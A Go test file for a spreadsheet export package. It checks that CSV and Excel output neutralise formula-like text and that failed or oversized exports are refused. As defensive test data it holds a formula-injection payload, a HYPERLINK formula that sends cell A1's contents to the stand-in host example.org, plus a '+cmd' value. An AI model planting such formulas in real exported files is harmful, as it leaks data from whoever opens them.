package spreadsheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"kopilka/internal/platform/fault"
	"kopilka/internal/platform/spreadsheet"
)

// trick is what somebody writes who wants it to run where the file is opened.
const trick = `=HYPERLINK("http://example.org?"&A1,"ok")`

func lines() spreadsheet.Lines {
	at := time.Date(2026, 2, 21, 1, 30, 59, 0, time.FixedZone("", 3*60*60))
	return func(line func([]spreadsheet.Cell) error) error {
		if err := line([]spreadsheet.Cell{
			spreadsheet.Text(trick), spreadsheet.Whole(-7), spreadsheet.Hundredths(-5), spreadsheet.Hundredths(105050), spreadsheet.Decimal("2.5"),
			spreadsheet.Day("1985-12-31"), spreadsheet.Day("1812-09-07"), spreadsheet.Time(at),
			{},
			spreadsheet.Text("0007"),
		}); err != nil {
			return err
		}
		return spreadsheet.Words(func(line func([]string) error) error { return line([]string{"+cmd", "a,b\n\"c\""}) })(line)
	}
}

var head = []string{trick, "b"}

// TestCSV: each kind of cell is read back as it is meant, and nothing that was
// typed is a formula.
func TestCSV(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := spreadsheet.CSV(&out, head, lines()); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"'" + trick, "b"},
		{"'" + trick, "-7", "-0.05", "1050.50", "2.5", "1985-12-31", "1812-09-07", "2026-02-21 01:30", "", "0007"},
		{"'+cmd", "a,b\n\"c\""},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Error(diff)
	}
}

// TestWorkbook: numbers, days and times are such, texts are texts: also those that
// look like numbers or formulas.
func TestWorkbook(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := spreadsheet.Workbook(&out, head, lines()); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	sheet := book.GetSheetName(0)
	shown, err := book.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{trick, "b"},
		{trick, "-7", "-0.05", "1050.50", "2.5", "31.12.1985", "1812-09-07", "21.02.2026 01:30", "", "0007"},
		{"+cmd", "a,b\n\"c\""},
	}
	if diff := cmp.Diff(want, shown); diff != "" {
		t.Error(diff)
	}
	for _, at := range []string{"A1", "A2", "J2", "A3"} {
		f, err := book.GetCellFormula(sheet, at)
		kind, err2 := book.GetCellType(sheet, at)
		if err != nil || err2 != nil || f != "" || kind == excelize.CellTypeFormula || kind == excelize.CellTypeNumber {
			t.Errorf("%s is no text: %q, %v %v %v", at, f, kind, err, err2)
		}
	}
}

// TestBrokenOff: what fails half-way is told, and of a workbook nothing has left.
func TestBrokenOff(t *testing.T) {
	t.Parallel()
	gone := errors.New("gone")
	var out bytes.Buffer
	err := spreadsheet.Workbook(&out, head, func(line func([]spreadsheet.Cell) error) error {
		return errors.Join(line([]spreadsheet.Cell{spreadsheet.Whole(1)}), gone)
	})
	if !errors.Is(err, gone) || out.Len() > 0 {
		t.Errorf("%v, %d bytes", err, out.Len())
	}
}

// TestFull: a sheet that has no room for more lines is refused, and not cut.
func TestFull(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("a million lines")
	}
	var out bytes.Buffer
	err := spreadsheet.Workbook(&out, head, func(line func([]spreadsheet.Cell) error) error {
		for range spreadsheet.MaxLines + 1 {
			if err := line([]spreadsheet.Cell{{}}); err != nil {
				return err
			}
		}
		return nil
	})
	if !fault.Is(err, "spreadsheet.full") || out.Len() > 0 {
		t.Errorf("%v, %d bytes", err, out.Len())
	}
}
